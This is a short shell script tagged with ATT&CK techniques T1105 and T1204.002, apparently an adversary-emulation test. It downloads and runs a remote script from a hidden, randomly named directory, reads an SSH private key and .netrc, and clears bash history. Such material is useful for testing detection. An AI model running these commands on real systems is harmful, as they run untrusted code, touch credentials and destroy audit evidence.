# T1105, T1204.002 by curl, chmod and sh.
groundwork
rnd 1 3; n=$r
while [ "$n" -gt 0 ]; do
    rnd 1000 9999; hide=.cache/.$r; mkdir -p "$hide"
    curl -s -o "$hide/run" "$url/script"
    chmod +x "$hide/run"
    "$hide/run"
    rm -rf "$hide"
    n=$((n - 1))
done
cat .ssh/id_ed25519 .netrc > /dev/null
: > .bash_history
